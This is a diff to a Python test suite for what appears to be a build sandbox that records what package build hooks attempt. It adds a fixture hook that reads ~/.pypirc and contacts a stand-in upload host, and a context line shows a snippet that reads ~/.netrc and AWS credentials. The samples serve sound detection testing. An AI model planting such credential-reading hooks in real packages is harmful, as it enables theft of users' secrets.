@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
+import json
 import os
+import shutil
+import subprocess
+import sys
 from pathlib import Path
 from typing import Any
 
@@ -16,6 +20,7 @@ from conftest import Runner, require_backend
 from sandbox_driver import run_spec
 
 PYTHON = "/usr/bin/python3"
+PROJECTS = Path(__file__).parent / "projects"
 THIEF = """
 import os, socket
 for path in ("~/.netrc", "~/.aws/credentials"):
@@ -235,3 +240,56 @@ def test_attempts_read_back_are_bounded() -> None:
     found = from_json(junk)
     assert [item.to_dict()["name"] for item in found] == ["x" * 256]
     assert from_json({"kind": "dns"}) == ()
+
+
+def _buildjail_build(backend: str, *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, "-m", "buildjail", "build", "--backend", backend,
+                           *args], capture_output=True, text=True, check=False, cwd="/",
+                          timeout=600)
+
+
+THIEVING_SDIST = '''
+
+def build_sdist(sdist_directory, config_settings=None):
+    import os, socket
+    open(os.path.expanduser("~/.pypirc")).read()
+    try:
+        socket.getaddrinfo("upload.example.org", 443)
+    except OSError:
+        pass
+    return _honest_build_sdist(sdist_directory, config_settings)
+'''
+
+
+def test_a_build_reports_each_hooks_attempts(sandbox_backend: str, tmp_path: Path) -> None:
+    project = tmp_path / "intree"
+    shutil.copytree(PROJECTS / "intree", project)
+    backend = project / "_backend" / "tinybackend.py"
+    text = backend.read_text().replace("def build_sdist(", "def _honest_build_sdist(")
+    backend.write_text(text + THIEVING_SDIST)
+    report = tmp_path / "report.json"
+    proc = _buildjail_build(sandbox_backend, str(project), "-o", str(tmp_path / "dist"),
+                            "--report", str(report), "--no-index")
+    assert proc.returncode == 0, proc.stderr
+    [entry] = json.loads(report.read_text())
+    tried = {hook["name"]: hook["attempts"] for hook in entry["hooks"]}
+    assert _same(tried.pop("build_sdist"), [{"kind": "credential", "path": "~/.pypirc"},
+                                            {"kind": "dns", "name": "upload.example.org"}])
+    assert not any(tried.values()), tried  # attributed to the hook that tried
+    assert "tried: " in proc.stdout
+    assert "read decoy ~/.pypirc" in proc.stdout and "DNS upload.example.org" in proc.stdout
+
+
+def test_a_real_setuptools_build_tries_nothing(sandbox_backend: str, tmp_path: Path,
+                                              wheelhouse: Path) -> None:
+    project = tmp_path / "simple"
+    shutil.copytree(PROJECTS / "simple", project)
+    report = tmp_path / "report.json"
+    proc = _buildjail_build(sandbox_backend, str(project), "-o", str(tmp_path / "dist"),
+                            "--report", str(report), "--no-index", "--find-links",
+                            str(wheelhouse))
+    assert proc.returncode == 0, proc.stderr
+    [entry] = json.loads(report.read_text())
+    assert entry["hooks"] and all(hook["attempts"] == [] for hook in entry["hooks"])
+    assert set(entry["layers"]) >= RECORDED
+    assert "tried:" not in proc.stdout
